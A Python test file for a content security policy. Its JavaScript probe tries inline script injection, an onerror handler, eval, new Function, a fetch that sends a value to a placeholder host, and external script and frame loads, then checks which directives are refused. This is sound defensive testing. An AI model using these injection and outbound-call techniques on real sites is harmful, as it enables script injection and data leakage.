"""What a script in a page might try, and what a policy has to refuse."""

from ways_out import WAYS_OUT

ATTACKS = (
    """async () => {
  const told = [];
  addEventListener("securitypolicyviolation", ({effectiveDirective}) => told.push(effectiveDirective));
  const done = {};
  // What a debugger evaluates may use eval; what runs later is a script like any other.
  await new Promise((go) => setTimeout(go));
  const script = document.createElement("script");
  script.textContent = "window.broken = true";
  document.body.append(script);
  const handler = document.createElement("div");
  handler.innerHTML = "<img src=x onerror='window.broken = true'>";
  document.body.append(handler);
  try { (0, eval)("window.broken = true"); } catch { done.eval = true; }
  try { new Function("window.broken = true")(); } catch { done.Function = true; }
  try { await fetch("https://example.invalid/?answer=1"); } catch { done.fetch = true; }
  try { new WebSocket("wss://example.invalid/"); } catch { }
  const outside = document.createElement("script");
  outside.src = "https://example.invalid/x.js";
  document.head.append(outside);
  const frame = document.createElement("iframe");
  frame.src = "https://example.invalid/";
  document.body.append(frame);
"""
    + WAYS_OUT
    + """
  await new Promise((go) => setTimeout(go, 400));
  return {broken: window.broken === true, done, told: [...new Set(told)].sort()};
}"""
)
REFUSED = ["connect-src", "form-action", "frame-src", "img-src", "script-src", "script-src-attr", "script-src-elem"]
